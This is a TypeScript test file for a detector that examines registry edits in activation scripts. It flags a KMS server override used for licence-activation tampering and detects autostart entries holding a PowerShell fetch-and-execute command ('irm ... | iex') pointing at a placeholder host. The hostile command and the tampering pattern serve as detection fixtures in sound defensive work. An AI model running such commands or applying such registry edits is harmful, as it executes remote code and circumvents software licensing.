// Values for the registry as signs: each with the value that it stands in, and starts apart.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { lookAtEdits, type RegistryEdit } from '../../../formats/activation-script/registry-edit.ts';

const edit = (key: string, name: string, data: string, line = 1): RegistryEdit => ({ key, name, data, line });

test('a sign tells the value, in the middle of others and with a line end in a text', () => {
  const edits = [
    edit('HKLM\\A', 'x', 'a\r\nb', 1),
    edit('HKLM\\SOFTWARE\\SoftwareProtectionPlatform', 'KeyManagementServiceName', '127.0.0.2', 7),
    edit('HKLM\\B', '', 'c', 9),
  ];
  const { signs, starts } = lookAtEdits(edits, []);
  assert.equal(
    signs.map(({ strength, edit: { line } }) => [strength, line]),
    [['certain', 7]],
  );
  assert.equal(starts, []);
  assert.equal(lookAtEdits(edits, ['127.0.0.2']).signs, []);
});

test('what Windows starts is looked at as a command, and nothing else is', () => {
  const fetch = 'powershell -c "irm https://x.example | iex"';
  const { starts } = lookAtEdits(
    [
      edit('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\001', '1', fetch),
      edit('HKLM\\SYSTEM\\CurrentControlSet\\Services\\x', 'ImagePath', fetch),
      edit('HKLM\\SOFTWARE\\Corp', 'Note', fetch),
      edit('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'n', '1'),
    ],
    [],
  );
  assert.equal(
    starts.map(({ edit: { name }, look: { fetches } }) => [name, fetches]),
    [
      ['1', true],
      ['ImagePath', true],
    ],
  );
});

test.run();
